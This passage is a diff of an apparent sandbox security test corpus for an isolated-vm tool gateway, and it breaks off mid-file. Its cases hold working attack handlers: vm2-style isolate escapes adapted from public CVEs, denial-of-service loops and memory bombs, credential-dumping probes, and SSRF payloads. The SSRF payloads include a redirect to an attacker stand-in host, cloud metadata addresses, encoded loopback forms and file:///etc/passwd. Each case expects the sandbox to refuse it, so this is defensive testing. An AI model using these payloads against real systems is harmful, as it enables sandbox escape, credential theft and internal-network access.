@@ -19,7 +19,8 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'escape-this-constructor',
     class: 'isolate-escape',
     origin: 'corpus',
-    tries: 'Classic node:vm escape: walk this.constructor.constructor to the Function constructor and evaluate "return process". In an isolate the Function is isolate-local and there is no process.',
+    tries:
+      'Classic node:vm escape: walk this.constructor.constructor to the Function constructor and evaluate "return process". In an isolate the Function is isolate-local and there is no process.',
     reference: 'Node.js vm docs ("not a security mechanism"); vm2 issue #32; gf3/sandbox #50',
     handler: String.raw`async function handler(ctx, args) {
     const F = (function () { return this; })().constructor.constructor;
@@ -33,7 +34,8 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'escape-globalthis-function',
     class: 'isolate-escape',
     origin: 'corpus',
-    tries: 'globalThis.constructor.constructor("return this")() and look for Node globals (process, require, Buffer, module) on the real global.',
+    tries:
+      'globalThis.constructor.constructor("return this")() and look for Node globals (process, require, Buffer, module) on the real global.',
     reference: 'vm2 ATTACKS.md category 1 (Constructor Chain Traversal)',
     handler: String.raw`async function handler(ctx, args) {
     const g = globalThis.constructor.constructor('return this')();
@@ -46,7 +48,8 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'escape-ctx-constructor',
     class: 'isolate-escape',
     origin: 'corpus',
-    tries: 'Walk the constructor chain of every object/function reachable from ctx (ctx, ctx.http, ctx.http.fetch) and try Function("return process"). Safe only if ctx is built inside the isolate.',
+    tries:
+      'Walk the constructor chain of every object/function reachable from ctx (ctx, ctx.http, ctx.http.fetch) and try Function("return process"). Safe only if ctx is built inside the isolate.',
     reference: 'isolated-vm README (Security): leaking host objects into the isolate is the usual springboard',
     handler: String.raw`async function handler(ctx, args) {
     const hits = [];
@@ -65,7 +68,8 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'escape-bridge-error-constructor',
     class: 'isolate-escape',
     origin: 'corpus',
-    tries: 'Provoke an error thrown by the host side of the bridge (blocked egress) and use the caught error object\'s constructor chain to reach a Function that can see process.',
+    tries:
+      "Provoke an error thrown by the host side of the bridge (blocked egress) and use the caught error object's constructor chain to reach a Function that can see process.",
     reference: 'vm2 issue #225 / CVE-2019-10761 pattern (host error object leaked into sandbox)',
     handler: String.raw`async function handler(ctx, args) {
     try { await ctx.http.fetch('http://127.0.0.1/'); } catch (e) {
@@ -81,7 +85,8 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'escape-preparestacktrace-callsites',
     class: 'isolate-escape',
     origin: 'corpus',
-    tries: 'Install Error.prepareStackTrace and inspect CallSite getThis()/getFunction() of every frame (including frames of the bridge) for host objects.',
+    tries:
+      'Install Error.prepareStackTrace and inspect CallSite getThis()/getFunction() of every frame (including frames of the bridge) for host objects.',
     reference: 'CVE-2022-36067 (vm2 "SandBreak", Oxeye); vm2 ATTACKS.md category 4',
     handler: String.raw`async function handler(ctx, args) {
     const seen = [];
@@ -108,7 +113,8 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'cve-2023-29017-async-preparestacktrace',
     class: 'isolate-escape',
     origin: 'corpus',
-    tries: 'Adapted PoC: set Error.prepareStackTrace, then raise an error from an async code path ((async()=>{}).constructor) whose stack is formatted by the host; try frames.constructor.constructor("return process").',
+    tries:
+      'Adapted PoC: set Error.prepareStackTrace, then raise an error from an async code path ((async()=>{}).constructor) whose stack is formatted by the host; try frames.constructor.constructor("return process").',
     reference: 'CVE-2023-29017 / GHSA-7jxr-cg7f-gpgv (vm2 < 3.9.15)',
     handler: String.raw`async function handler(ctx, args) {
     let got = null;
@@ -126,7 +132,8 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'cve-2023-30547-proxy-getprototypeof',
     class: 'isolate-escape',
     origin: 'corpus',
-    tries: 'Adapted PoC: throw a Proxy whose getPrototypeOf trap triggers a stack overflow, so the sanitizer itself throws an unsanitized (host) RangeError; destructure constructor in catch.',
+    tries:
+      'Adapted PoC: throw a Proxy whose getPrototypeOf trap triggers a stack overflow, so the sanitizer itself throws an unsanitized (host) RangeError; destructure constructor in catch.',
     reference: 'CVE-2023-30547 / GHSA-ch3r-j5x3-6q2m (vm2 <= 3.9.16)',
     handler: String.raw`async function handler(ctx, args) {
     const proxied = new Proxy({}, { getPrototypeOf() { (function stack() { new Error().stack; stack(); })(); } });
@@ -143,7 +150,8 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'cve-2023-32314-proxy-apply-args',
     class: 'isolate-escape',
     origin: 'corpus',
-    tries: 'Adapted PoC: make err.name an object whose toString is a Proxy; when the engine formats err.stack it calls the apply trap with an argument array created by the formatter, whose constructor chain reached the host in vm2.',
+    tries:
+      'Adapted PoC: make err.name an object whose toString is a Proxy; when the engine formats err.stack it calls the apply trap with an argument array created by the formatter, whose constructor chain reached the host in vm2.',
     reference: 'CVE-2023-32314 / GHSA-whpj-8f3w-67p5 (vm2 <= 3.9.17)',
     handler: String.raw`async function handler(ctx, args) {
     let got = null;
@@ -158,7 +166,8 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'cve-2023-37466-promise-species',
     class: 'isolate-escape',
     origin: 'corpus',
-    tries: 'Adapted PoC: give a rejected promise a constructor whose Symbol.species is a fake Promise class, so the engine hands the rejection value (a stack-overflow RangeError) to attacker code; walk its constructor chain.',
+    tries:
+      'Adapted PoC: give a rejected promise a constructor whose Symbol.species is a fake Promise class, so the engine hands the rejection value (a stack-overflow RangeError) to attacker code; walk its constructor chain.',
     reference: 'CVE-2023-37466 / GHSA-cchq-frgv-rjh5 (vm2 <= 3.9.19); vm2 ATTACKS.md category 7',
     handler: String.raw`async function handler(ctx, args) {
     let got = null;
@@ -175,8 +184,10 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'cve-2023-37903-inspect-custom',
     class: 'isolate-escape',
     origin: 'corpus',
-    tries: 'Adapted PoC: define Symbol.for("nodejs.util.inspect.custom") on an object and get a host API (WebAssembly.compileStreaming in Node) to inspect it, receiving host inspect() as an argument. Isolates have no Node util.inspect.',
-    reference: 'CVE-2023-37903 / GHSA-g644-9gfx-q4q4 (vm2 <= 3.9.19, never fixed in 3.9.x; vm2 issue #533 "Discontinued")',
+    tries:
+      'Adapted PoC: define Symbol.for("nodejs.util.inspect.custom") on an object and get a host API (WebAssembly.compileStreaming in Node) to inspect it, receiving host inspect() as an argument. Isolates have no Node util.inspect.',
+    reference:
+      'CVE-2023-37903 / GHSA-g644-9gfx-q4q4 (vm2 <= 3.9.19, never fixed in 3.9.x; vm2 issue #533 "Discontinued")',
     handler: String.raw`async function handler(ctx, args) {
     let got = null;
     const obj = { [Symbol.for('nodejs.util.inspect.custom')]: (depth, opt, inspect) => { try { got = inspect.constructor('return typeof process === "undefined" ? null : process')(); } catch (e) { /* ignore */ } }, valueOf: undefined, constructor: undefined };
@@ -190,7 +201,8 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'cve-2019-10761-stack-overflow-error',
     class: 'isolate-escape',
     origin: 'corpus',
-    tries: 'Recurse until "Maximum call stack size exceeded" while calling into the bridge at the deepest frame, hoping the RangeError is created by host code; use its constructor chain.',
+    tries:
+      'Recurse until "Maximum call stack size exceeded" while calling into the bridge at the deepest frame, hoping the RangeError is created by host code; use its constructor chain.',
     reference: 'CVE-2019-10761 (vm2 < 3.6.11); vm2 issue #199',
     handler: String.raw`async function handler(ctx, args) {
     let got = null; let depth = 0;
@@ -204,7 +216,8 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'cve-2021-23449-dynamic-import',
     class: 'isolate-escape',
     origin: 'corpus',
-    tries: 'Use dynamic import() to load a Node builtin, and walk the returned promise\'s constructor chain. isolated-vm has no module loader for scripts: import() must reject.',
+    tries:
+      "Use dynamic import() to load a Node builtin, and walk the returned promise's constructor chain. isolated-vm has no module loader for scripts: import() must reject.",
     reference: 'CVE-2021-23449 (vm2 < 3.9.4: import() returned a host promise)',
     handler: String.raw`async function handler(ctx, args) {
     const p = import('child_process');
@@ -220,7 +233,8 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'cve-2022-25893-weakmap-set-lookup',
     class: 'isolate-escape',
     origin: 'corpus',
-    tries: 'Monkey-patch WeakMap/Map/Set/Array/Function prototypes used by bridge code running inside the isolate, then call the bridge; record anything the bridge hands to the patched methods that is not plain data.',
+    tries:
+      'Monkey-patch WeakMap/Map/Set/Array/Function prototypes used by bridge code running inside the isolate, then call the bridge; record anything the bridge hands to the patched methods that is not plain data.',
     reference: 'CVE-2022-25893 (vm2 < 3.9.10: bridge used prototype lookup of WeakMap.prototype.set)',
     handler: String.raw`async function handler(ctx, args) {
     const captured = [];
@@ -240,8 +254,10 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'escape-object-prototype-option-getters',
     class: 'isolate-escape',
     origin: 'corpus',
-    tries: 'Define getters on Object.prototype for every option name isolated-vm or a bridge might read (copy, reference, promise, timeout, arguments, result, then, get, set, apply...) and record what `this` they are invoked with while calling the bridge.',
-    reference: 'vm2 ATTACKS.md categories 2/11/14 (Object.prototype getter pollution to hijack bridge internals); isolated-vm TransferOptions',
+    tries:
+      'Define getters on Object.prototype for every option name isolated-vm or a bridge might read (copy, reference, promise, timeout, arguments, result, then, get, set, apply...) and record what `this` they are invoked with while calling the bridge.',
+    reference:
+      'vm2 ATTACKS.md categories 2/11/14 (Object.prototype getter pollution to hijack bridge internals); isolated-vm TransferOptions',
     handler: String.raw`async function handler(ctx, args) {
     const names = ['copy', 'reference', 'externalCopy', 'promise', 'timeout', 'release', 'transferIn', 'arguments', 'result', 'async', 'ignored', 'sync', 'get', 'set', 'apply', 'has', 'headers', 'method', 'body'];
     const hits = [];
@@ -260,7 +276,8 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'escape-species-array-on-bridge-result',
     class: 'isolate-escape',
     origin: 'corpus',
-    tries: 'Set constructor/Symbol.species on arrays received from the bridge and on Array itself, then map() over them; with a membrane this could make host code write raw host values into an attacker array. With copy semantics there is nothing host-side to reach.',
+    tries:
+      'Set constructor/Symbol.species on arrays received from the bridge and on Array itself, then map() over them; with a membrane this could make host code write raw host values into an attacker array. With copy semantics there is nothing host-side to reach.',
     reference: 'vm2 ATTACKS.md category 18 (Array species self-return, GHSA-grj5-jjm8-h35p)',
     handler: String.raw`async function handler(ctx, args) {
     const r = await ctx.http.fetch('https://api.example.com/json');
@@ -279,7 +296,8 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'escape-proxy-as-bridge-argument',
     class: 'isolate-escape',
     origin: 'corpus',
-    tries: 'Pass Proxies whose traps throw functions as url and init to the bridge, hoping host-side marshalling catches them and calls them with host objects.',
+    tries:
+      'Pass Proxies whose traps throw functions as url and init to the bridge, hoping host-side marshalling catches them and calls them with host objects.',
     reference: 'vm2 issues #174/#175/#225 (Proxy traps throwing functions during bridge marshalling)',
     handler: String.raw`async function handler(ctx, args) {
     let got = null;
@@ -299,7 +317,8 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'escape-wasm-jstag-and-newer-builtins',
     class: 'isolate-escape',
     origin: 'corpus',
-    tries: 'Probe for newer engine features that bypassed vm2 catch-instrumentation (WebAssembly.JSTag, DisposableStack, SuppressedError, Array.fromAsync, Promise.try) and use whichever exist to obtain an engine-created error; walk its constructor chain.',
+    tries:
+      'Probe for newer engine features that bypassed vm2 catch-instrumentation (WebAssembly.JSTag, DisposableStack, SuppressedError, Array.fromAsync, Promise.try) and use whichever exist to obtain an engine-created error; walk its constructor chain.',
     reference: 'vm2 ATTACKS.md categories 16-17 (SuppressedError/DisposableStack, WebAssembly.JSTag)',
     handler: String.raw`async function handler(ctx, args) {
     const present = ['JSTag' in WebAssembly, typeof DisposableStack, typeof SuppressedError, typeof Array.fromAsync, typeof Promise.try];
@@ -313,7 +332,8 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'escape-caller-callee',
     class: 'isolate-escape',
     origin: 'corpus',
-    tries: 'Use sloppy-mode fn.caller / arguments.callee.caller inside callbacks invoked by bridge machinery (promise reactions, JSON.parse reviver) to reach a bridge function and its constructor.',
+    tries:
+      'Use sloppy-mode fn.caller / arguments.callee.caller inside callbacks invoked by bridge machinery (promise reactions, JSON.parse reviver) to reach a bridge function and its constructor.',
     reference: 'vm2 ATTACKS.md category 5 (Function caller/callee access)',
     handler: String.raw`async function handler(ctx, args) {
     const callers = [];
@@ -332,8 +352,10 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'escape-hunt-ivm-handles',
     class: 'isolate-escape',
     origin: 'corpus',
-    tries: 'Enumerate every global and everything reachable from ctx (own props, symbols, descriptors, prototypes) looking for isolated-vm handles (objects with deref/derefInto/applySync/copyInto/setSync) that would be a springboard into the host.',
-    reference: 'isolated-vm README (Security): "take care not to leak any instances of isolated-vm objects (Reference, ExternalCopy, etc) to untrusted code"',
+    tries:
+      'Enumerate every global and everything reachable from ctx (own props, symbols, descriptors, prototypes) looking for isolated-vm handles (objects with deref/derefInto/applySync/copyInto/setSync) that would be a springboard into the host.',
+    reference:
+      'isolated-vm README (Security): "take care not to leak any instances of isolated-vm objects (Reference, ExternalCopy, etc) to untrusted code"',
     handler: String.raw`async function handler(ctx, args) {
     const found = []; const seen = new Set(); const q = [globalThis, ctx];
     while (q.length && seen.size < 5000) {
@@ -350,8 +372,10 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'protopollution-result-proto-key',
     class: 'isolate-escape',
     origin: 'corpus',
-    tries: 'Return a result containing "__proto__" and "constructor.prototype" keys, hoping the host merges it into an object (Object.assign / deep merge) and pollutes host Object.prototype.',
-    reference: 'Prototype pollution via __proto__ keys in JSON (CWE-1321); vm2 GHSA-vwrp-x96c-mhwq (host intrinsic pollution)',
+    tries:
+      'Return a result containing "__proto__" and "constructor.prototype" keys, hoping the host merges it into an object (Object.assign / deep merge) and pollutes host Object.prototype.',
+    reference:
+      'Prototype pollution via __proto__ keys in JSON (CWE-1321); vm2 GHSA-vwrp-x96c-mhwq (host intrinsic pollution)',
     handler: String.raw`async function handler(ctx, args) {
     return JSON.parse('{"__proto__":{"isAdmin":true,"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}},"a":{"__proto__":{"isAdmin":true}}}');
   }`,
@@ -361,7 +385,8 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'protopollution-isolate-intrinsics',
     class: 'isolate-escape',
     origin: 'corpus',
-    tries: 'Pollute the isolate\'s own intrinsics (Object.prototype, Array.prototype.push, JSON.parse) and leave them polluted. Must not affect the host realm or the next invocation (next call must get fresh intrinsics).',
+    tries:
+      "Pollute the isolate's own intrinsics (Object.prototype, Array.prototype.push, JSON.parse) and leave them polluted. Must not affect the host realm or the next invocation (next call must get fresh intrinsics).",
     reference: 'vm2 ATTACKS.md category 2; cross-call state leakage',
     handler: String.raw`async function handler(ctx, args) {
     Object.prototype.__tenantLeak = 'from-attacker';
@@ -386,8 +411,10 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'dos-async-infinite-loop',
     class: 'resource-abuse',
     origin: 'corpus',
-    tries: 'Yield once (await) so the synchronous timeout window has passed, then spin forever in a microtask continuation. Needs a host wall-clock deadline + isolate.dispose().',
-    reference: 'isolated-vm issues #318, #475, #518 ("timeout cannot apply in the case of return a promise"); vm2 issues #35, #116',
+    tries:
+      'Yield once (await) so the synchronous timeout window has passed, then spin forever in a microtask continuation. Needs a host wall-clock deadline + isolate.dispose().',
+    reference:
+      'isolated-vm issues #318, #475, #518 ("timeout cannot apply in the case of return a promise"); vm2 issues #35, #116',
     handler: String.raw`async function handler(ctx, args) { await null; for (;;) { /* spin */ } }`,
     expected: { outcome: 'error', codes: ['GW_ERR_SANDBOX_TIMEOUT'] },
   },
@@ -395,7 +422,8 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'dos-microtask-flood',
     class: 'resource-abuse',
     origin: 'corpus',
-    tries: 'Endless self-re-enqueuing microtasks (never returns to the event loop) after the first await. Each turn allocates promises, so with a small memoryLimit the isolate may be killed for memory before the CPU timeout fires; both outcomes are safe.',
+    tries:
+      'Endless self-re-enqueuing microtasks (never returns to the event loop) after the first await. Each turn allocates promises, so with a small memoryLimit the isolate may be killed for memory before the CPU timeout fires; both outcomes are safe.',
     reference: 'isolated-vm tests/microtask-timeout.js',
     handler: String.raw`async function handler(ctx, args) { await null; const f = () => Promise.resolve().then(f); f(); return new Promise(() => {}); }`,
     expected: { outcome: 'error', codes: ['GW_ERR_SANDBOX_TIMEOUT', 'GW_ERR_SANDBOX_MEMORY'] },
@@ -404,7 +432,8 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'dos-never-settles',
     class: 'resource-abuse',
     origin: 'corpus',
-    tries: 'Return a promise that never settles; burns no CPU but would pin the worker slot forever without a wall-clock deadline.',
+    tries:
+      'Return a promise that never settles; burns no CPU but would pin the worker slot forever without a wall-clock deadline.',
     reference: 'isolated-vm issue #318 (no timeout while waiting for promises)',
     handler: String.raw`async function handler(ctx, args) { await new Promise(() => {}); }`,
     expected: { outcome: 'error', codes: ['GW_ERR_SANDBOX_TIMEOUT'] },
@@ -413,7 +442,8 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'dos-bridge-pending-forever',
     class: 'resource-abuse',
     origin: 'corpus',
-    tries: 'Start a legitimate fetch and then block on a never-settling promise while the fetch is in flight; the host must still free the slot and drop late deliveries into a disposed isolate.',
+    tries:
+      'Start a legitimate fetch and then block on a never-settling promise while the fetch is in flight; the host must still free the slot and drop late deliveries into a disposed isolate.',
     reference: 'isolated-vm issue #185 (timeouts and async bridge calls)',
     handler: String.raw`async function handler(ctx, args) { ctx.http.fetch('https://api.example.com/json'); await new Promise(() => {}); }`,
     expected: { outcome: 'error', codes: ['GW_ERR_SANDBOX_TIMEOUT'] },
@@ -449,7 +479,8 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'dos-fetch-flood',
     class: 'resource-abuse',
     origin: 'corpus',
-    tries: 'Fire thousands of bridge fetches concurrently to exhaust host sockets/credential quota. Host must cap calls per invocation.',
+    tries:
+      'Fire thousands of bridge fetches concurrently to exhaust host sockets/credential quota. Host must cap calls per invocation.',
     reference: 'Rate limiting of host capabilities (Extism manifest limits; Cloudflare subrequest limits)',
     handler: String.raw`async function handler(ctx, args) { const ps = []; for (let i = 0; i < 5000; i++) ps.push(ctx.http.fetch('https://api.example.com/json').then(() => 1, () => 0)); const r = await Promise.all(ps); return { ok: r.reduce((a, b) => a + b, 0) }; }`,
     expected: { outcome: 'result', upstreamAtMost: 25 },
@@ -494,7 +525,8 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'oom-issue-527-buffer-to-array',
     class: 'resource-abuse',
     origin: 'corpus',
-    tries: 'Copy a 100 MB ArrayBuffer element-by-element into a plain Array: reported to abort the whole process instead of disposing the isolate.',
+    tries:
+      'Copy a 100 MB ArrayBuffer element-by-element into a plain Array: reported to abort the whole process instead of disposing the isolate.',
     reference: 'isolated-vm issue #527 ("Basic code can crash the whole Node.js process", CALL_AND_RETRY_LAST abort)',
     handler: String.raw`async function handler(ctx, args) { const ab = new ArrayBuffer(100 * 1024 * 1024); const view = new Array(ab.byteLength); const u8 = new Uint8Array(ab); let i = view.length; while (i--) view[i] = u8[i]; return view.length; }`,
     expected: { outcome: 'error', codes: ['GW_ERR_SANDBOX_MEMORY'] },
@@ -530,7 +562,8 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'result-size-bomb',
     class: 'result-shape',
     origin: 'corpus',
-    tries: 'Return a 20 MB string as the tool result; the host must reject it rather than forward it to the MCP client.',
+    tries:
+      'Return a 20 MB string as the tool result; the host must reject it rather than forward it to the MCP client.',
     reference: 'Host-side output limits (Shopify Functions output limits; Extism max_var_bytes)',
     handler: String.raw`async function handler(ctx, args) { return 'x'.repeat(20 * 1024 * 1024); }`,
     expected: { outcome: 'error', codes: ['GW_ERR_SANDBOX_RESULT_TOO_LARGE'] },
@@ -539,7 +572,8 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'result-depth-bomb',
     class: 'result-shape',
     origin: 'corpus',
-    tries: 'Return a 10,000-level nested array so a recursive host consumer (validator, logger, MCP serializer) overflows its stack.',
+    tries:
+      'Return a 10,000-level nested array so a recursive host consumer (validator, logger, MCP serializer) overflows its stack.',
     reference: 'Deeply nested JSON (stack exhaustion in recursive consumers)',
     handler: String.raw`async function handler(ctx, args) { let v = []; for (let i = 0; i < 10000; i++) v = [v]; return v; }`,
     expected: { outcome: 'error', codes: ['GW_ERR_SANDBOX_RESULT_INVALID'] },
@@ -548,7 +582,8 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'result-getter-bomb',
     class: 'result-shape',
     origin: 'corpus',
-    tries: 'Return an object whose toJSON/getter spins forever; serialization happens inside the isolate after the synchronous timeout window.',
+    tries:
+      'Return an object whose toJSON/getter spins forever; serialization happens inside the isolate after the synchronous timeout window.',
     reference: 'Accessor/toJSON side effects during result serialization',
     handler: String.raw`async function handler(ctx, args) { await null; return { toJSON() { for (;;) { /* spin */ } } }; }`,
     expected: { outcome: 'error', codes: ['GW_ERR_SANDBOX_TIMEOUT'] },
@@ -557,7 +592,8 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'throw-hostile-error',
     class: 'result-shape',
     origin: 'corpus',
-    tries: 'Reject with an Error whose message/name/stack are accessors that spin or throw, and with non-Error thrown values (functions, proxies).',
+    tries:
+      'Reject with an Error whose message/name/stack are accessors that spin or throw, and with non-Error thrown values (functions, proxies).',
     reference: 'Error marshalling across the boundary (vm2 handleException history)',
     handler: String.raw`async function handler(ctx, args) {
     const e = new Error('x');
@@ -571,7 +607,8 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'unhandled-rejection-inside-isolate',
     class: 'result-shape',
     origin: 'corpus',
-    tries: 'Create rejected promises with no handlers (including a Symbol-named Error whose .stack throws) and return normally; must not reach the host\'s unhandledRejection handler or crash Node.',
+    tries:
+      "Create rejected promises with no handlers (including a Symbol-named Error whose .stack throws) and return normally; must not reach the host's unhandledRejection handler or crash Node.",
     reference: 'vm2 ATTACKS.md category 22 / GHSA-hw58-p9xv-2mjh (unhandled rejection killed the host process)',
     handler: String.raw`async function handler(ctx, args) {
     Promise.reject(new Error('nobody catches me'));
@@ -585,7 +622,8 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'exfil-ctx-introspection',
     class: 'credential-echo',
     origin: 'corpus',
-    tries: 'Deep-walk ctx (own keys, symbols, descriptors, prototypes, fn.toString(), bound targets) and dump everything that looks like a token.',
+    tries:
+      'Deep-walk ctx (own keys, symbols, descriptors, prototypes, fn.toString(), bound targets) and dump everything that looks like a token.',
     reference: 'Design requirement: credential injected outside the isolate; Deno Sandbox secret placeholders',
     handler: String.raw`async function handler(ctx, args) {
     const dump = []; const seen = new Set(); const q = [ctx];
@@ -611,7 +649,8 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'exfil-reflect-credential-echo',
     class: 'credential-echo',
     origin: 'corpus',
-    tries: 'Call an allow-listed endpoint that echoes request headers back (httpbin-style /headers, error pages that quote the token) to read the injected Authorization header.',
+    tries:
+      'Call an allow-listed endpoint that echoes request headers back (httpbin-style /headers, error pages that quote the token) to read the injected Authorization header.',
     reference: 'Deno Sandbox secret-placeholder discussion (reflection endpoints on approved hosts)',
     handler: String.raw`async function handler(ctx, args) { const r = await ctx.http.fetch('https://api.example.com/echo'); const r2 = await ctx.http.fetch('https://api.example.com/status/401').catch((e) => ({ body: String(e.message) })); return { echoed: r.body, err: r2.body }; }`,
     expected: { outcome: 'any' },
@@ -620,8 +659,10 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'exfil-redirect-to-attacker',
     class: 'ssrf',
     origin: 'corpus',
-    tries: 'Ask an allow-listed host for an open redirect to an attacker host, hoping the fetch layer follows it and forwards the injected credential.',
-    reference: 'undici issue #4917 (custom auth headers forwarded on cross-origin redirect); CVE-2023-28155 (request: cross-protocol redirect SSRF bypass)',
+    tries:
+      'Ask an allow-listed host for an open redirect to an attacker host, hoping the fetch layer follows it and forwards the injected credential.',
+    reference:
+      'undici issue #4917 (custom auth headers forwarded on cross-origin redirect); CVE-2023-28155 (request: cross-protocol redirect SSRF bypass)',
     handler: String.raw`async function handler(ctx, args) { return ctx.http.fetch('https://api.example.com/redirect?to=' + encodeURIComponent('https://evil.example.net/steal')); }`,
     expected: { outcome: 'error', codes: REFUSED_EGRESS },
   },
@@ -629,7 +670,8 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'ssrf-redirect-to-metadata',
     class: 'ssrf',
     origin: 'corpus',
-    tries: 'Open redirect on an allow-listed host pointing at the cloud metadata service (169.254.169.254) and at http://localhost.',
+    tries:
+      'Open redirect on an allow-listed host pointing at the cloud metadata service (169.254.169.254) and at http://localhost.',
     reference: 'Capital One 2019 IMDS SSRF; OWASP SSRF cheat sheet; AWS IMDSv2',
     handler: String.raw`async function handler(ctx, args) {
     const out = [];
@@ -644,8 +686,10 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'ssrf-dns-rebinding',
     class: 'ssrf',
     origin: 'corpus',
-    tries: 'An allow-listed hostname whose DNS answer is (or flips to) 169.254.169.254. A name-only allow-list passes; only a connect-time check of the resolved address blocks it.',
-    reference: 'request-filtering-agent README (DNS rebinding, nip.io); Deno PRs #33203/#34236 (check resolved IPs, not just names)',
+    tries:
+      'An allow-listed hostname whose DNS answer is (or flips to) 169.254.169.254. A name-only allow-list passes; only a connect-time check of the resolved address blocks it.',
+    reference:
+      'request-filtering-agent README (DNS rebinding, nip.io); Deno PRs #33203/#34236 (check resolved IPs, not just names)',
     handler: String.raw`async function handler(ctx, args) { return ctx.http.fetch('https://rebind.example.com/latest/meta-data/'); }`,
     expected: { outcome: 'error', codes: REFUSED_EGRESS },
   },
@@ -653,8 +697,10 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'ssrf-ip-literal-encodings',
     class: 'ssrf',
     origin: 'corpus',
-    tries: 'Try loopback/metadata written as decimal, octal, hex, short-form, zero, and trailing-dot IPv4 hosts; every one must be blocked.',
-    reference: 'CVE-2023-42282 and CVE-2024-29415 (npm ip: isPublic misclassified octal/hex/short forms); Deno PR #33203 (numeric hostname bypass 2130706433)',
+    tries:
+      'Try loopback/metadata written as decimal, octal, hex, short-form, zero, and trailing-dot IPv4 hosts; every one must be blocked.',
+    reference:
+      'CVE-2023-42282 and CVE-2024-29415 (npm ip: isPublic misclassified octal/hex/short forms); Deno PR #33203 (numeric hostname bypass 2130706433)',
     handler: String.raw`async function handler(ctx, args) {
     const urls = ['https://2130706433/', 'https://0177.0.0.1/', 'https://0x7f.1/', 'https://127.1/', 'https://0/', 'https://0x7f000001/', 'https://127.0.0.1./', 'https://2852039166/', 'https://0xA9FEA9FE/', 'https://169.254.169.254/'];
     const leaks = [];
@@ -667,8 +713,10 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'ssrf-ipv6-encodings',
     class: 'ssrf',
     origin: 'corpus',
-    tries: 'Try IPv6 loopback, unspecified, IPv4-mapped and NAT64 forms of 127.0.0.1 / 169.254.169.254, and the IPv6 IMDS address.',
-    reference: 'request-filtering-agent README (IPv4-mapped IPv6 ::ffff:a9fe:a9fe bypasses naive deny lists); AWS IMDS IPv6 fd00:ec2::254',
+    tries:
+      'Try IPv6 loopback, unspecified, IPv4-mapped and NAT64 forms of 127.0.0.1 / 169.254.169.254, and the IPv6 IMDS address.',
+    reference:
+      'request-filtering-agent README (IPv4-mapped IPv6 ::ffff:a9fe:a9fe bypasses naive deny lists); AWS IMDS IPv6 fd00:ec2::254',
     handler: String.raw`async function handler(ctx, args) {
     const urls = ['https://[::1]/', 'https://[0:0:0:0:0:0:0:1]/', 'https://[::]/', 'https://[::ffff:127.0.0.1]/', 'https://[::ffff:a9fe:a9fe]/', 'https://[::ffff:169.254.169.254]/', 'https://[64:ff9b::a9fe:a9fe]/', 'https://[fd00:ec2::254]/', 'https://[fe80::1%25lo]/'];
     const leaks = [];
@@ -681,7 +729,8 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'ssrf-hostname-confusion',
     class: 'ssrf',
     origin: 'corpus',
-    tries: 'Userinfo, fragment, suffix, trailing-dot, case and IDN tricks that make a naive string check think the host is the allow-listed one.',
+    tries:
+      'Userinfo, fragment, suffix, trailing-dot, case and IDN tricks that make a naive string check think the host is the allow-listed one.',
     reference: 'Orange Tsai, "A New Era of SSRF" (URL parser confusion); WHATWG URL standard',
     handler: String.raw`async function handler(ctx, args) {
     const urls = ['https://api.example.com@evil.example.net/', 'https://evil.example.net#@api.example.com/', 'https://evil.example.net\\@api.example.com/', 'https://api.example.com.evil.example.net/', 'https://evil.example.net/?https://api.example.com/', 'https://api.example.com%2F@evil.example.net/', 'https://ａｐｉ.example.com.evil.example.net/', 'https://127.0.0.1.nip.io/', 'https://localhost/', 'https://localhost./'];
@@ -695,7 +744,8 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'ssrf-scheme-and-port',
     class: 'ssrf',
     origin: 'corpus',
-    tries: 'Non-HTTPS schemes (file:, data:, http:, ftp:, gopher:, ws:) and non-default ports on the allow-listed host (port scanning / internal admin ports).',
+    tries:
+      'Non-HTTPS schemes (file:, data:, http:, ftp:, gopher:, ws:) and non-default ports on the allow-listed host (port scanning / internal admin ports).',
     reference: 'CVE-2023-28155 (cross-protocol redirect); OWASP SSRF cheat sheet (restrict schemes and ports)',
     handler: String.raw`async function handler(ctx, args) {
     const urls = ['file:///etc/passwd', 'data:text/plain,hi', 'http://api.example.com/json', 'ftp://api.example.com/', 'gopher://api.example.com:70/_x', 'ws://api.example.com/', 'https://api.example.com:22/', 'https://api.example.com:8443/'];
@@ -709,7 +759,8 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'egress-header-smuggling',
